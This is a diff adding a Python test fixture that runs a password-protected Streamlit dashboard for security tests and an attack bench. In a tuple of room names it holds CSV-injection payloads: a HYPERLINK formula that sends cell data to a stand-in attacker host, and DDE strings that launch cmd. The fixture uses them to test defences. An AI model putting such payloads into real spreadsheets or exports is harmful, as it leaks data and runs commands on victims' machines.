@@ -1,0 +1,135 @@
+"""A password-protected dashboard on a real ``streamlit run app.py``, for the security tests and
+``bench/security_attacks.py``: the fixture fleet plus rooms whose names are spreadsheet
+formulas and a billing source, a bcrypt hash in the environment, and helpers to sign in over
+the browser's websocket protocol (bench/_streamlit_ws.py)."""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import ssl
+import subprocess
+import time
+from collections.abc import Iterator, Mapping
+from dataclasses import dataclass
+from pathlib import Path
+
+import bcrypt
+
+from bench import _streamlit_ws as browser
+from store import schema
+from store.engine import open_store
+from store.upsert import upsert
+from tests.pages.fixture_store import MAIN_SOURCE_ID, build_fixture
+from tests.realparts import REPO_ROOT, streamlit_run
+
+PASSWORD = "correct horse battery staple"
+PAGES = ("overview", "streams", "nodes", "costs", "planner", "billing", "alerts")
+# Element kinds that carry fleet data; a session that is not signed in must receive none.
+DATA_KINDS = frozenset(
+    {"metric", "arrow_data_frame", "arrow_table", "dataframe", "plotly_chart", "vega_lite_chart",
+     "download_button", "table", "json"}
+)  # fmt: skip
+# What the sign-in page may show (title, caption, the form, an error / wait message).
+SIGN_IN_KINDS = frozenset({"heading", "markdown", "text_input", "button", "alert", "empty", "text"})
+# Cells a spreadsheet would run as formulas (OWASP's list), as room names.
+FORMULA_NAMES = (
+    '=HYPERLINK("http://attacker.invalid/leak?d="&A1,"Click me")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+BILLING_SOURCE = "billing:agora"
+
+
+def hostile_store(path: Path, now_ts: int | None = None) -> str:
+    """The fixture fleet at ``path`` plus live rooms named like formulas and a billing
+    source; returns its URL (built once: an existing file is reused)."""
+    url = f"sqlite:///{path}"
+    if path.exists():
+        return url
+    now_ts = int(time.time()) if now_ts is None else now_ts
+    build_fixture(url, now_ts)
+    engine = open_store(url)
+    with engine.begin() as connection:
+        upsert(
+            connection,
+            schema.room_sessions,
+            [
+                {"source_id": MAIN_SOURCE_ID, "room_sid": f"RM_formula_{index}", "room_name": name,
+                 "channel": name, "started_ts": now_ts - 600, "ended_ts": None, "last_seen_ts": now_ts,
+                 "max_participants": 3, "max_listeners": 2}
+                for index, name in enumerate(FORMULA_NAMES)
+            ],
+        )  # fmt: skip
+        upsert(
+            connection,
+            schema.sources,
+            [{"id": 90, "name": BILLING_SOURCE, "kind": BILLING_SOURCE, "url": "https://api.agora.io",
+              "created_ts": now_ts}],
+        )  # fmt: skip
+    engine.dispose()
+    return url
+
+
+def password_hash(password: str = PASSWORD) -> str:
+    return bcrypt.hashpw(password.encode(), bcrypt.gensalt(4)).decode()
+
+
+def dashboard_env(workdir: Path, store_url: str, pw_hash: str, **extra: str) -> dict[str, str]:
+    config = workdir / "castmeter.toml"
+    if not config.exists():
+        config.write_text('[dashboard]\ntimezone = "UTC"\nstale_after_s = 1800\n')
+    env = {key: value for key, value in os.environ.items() if not key.startswith("CASTMETER_")}
+    return {**env, "CASTMETER_DB_URL": store_url, "CASTMETER_CONFIG": str(config),
+            "CASTMETER_PASSWORD_HASH": pw_hash, **extra}  # fmt: skip
+
+
+@dataclass
+class Dashboard:
+    base: str  # http://127.0.0.1:port
+    process: subprocess.Popen[bytes]
+    log_path: Path
+
+    def log(self) -> str:
+        return self.log_path.read_text(errors="replace")
+
+
+@contextlib.contextmanager
+def served(
+    workdir: Path, env: Mapping[str, str], *, app_dir: Path = REPO_ROOT, name: str = "app"
+) -> Iterator[Dashboard]:
+    """``streamlit run app.py`` from ``app_dir`` (the repository; the attack bench also points it
+    at an older checkout) with ``env``; a fresh process every time."""
+    log_path = workdir / f"{name}.log"
+    with streamlit_run("app.py", cwd=app_dir, env=env, log_path=log_path) as (base, process):
+        yield Dashboard(base, process, log_path)
+
+
+def is_sign_in_only(run: browser.Run) -> bool:
+    """True when ``run`` showed the sign-in form and nothing of the fleet."""
+    kinds = browser.element_kinds(run)
+    return not (kinds & DATA_KINDS) and "text_input" in kinds and not run.fragment_ids
+
+
+def sign_in(
+    base: str,
+    page: str = "",
+    password: str = PASSWORD,
+    *,
+    ssl_context: ssl.SSLContext | None = None,
+    source_address: str | None = None,
+) -> tuple[browser.Session, browser.Run]:
+    """A session signed in with ``password`` on ``page``; (session, the first signed-in run)."""
+    session = browser.Session(base, page, ssl_context=ssl_context, source_address=source_address)
+    try:
+        form = session.run()
+        run = session.run(browser.sign_in_states(form, password))
+        if "text_input" in browser.element_kinds(run) and not (browser.element_kinds(run) & DATA_KINDS):
+            run = session.run()  # the sign-in's own st.rerun() may end the run early
+    except BaseException:
+        session.close()
+        raise
+    return session, run
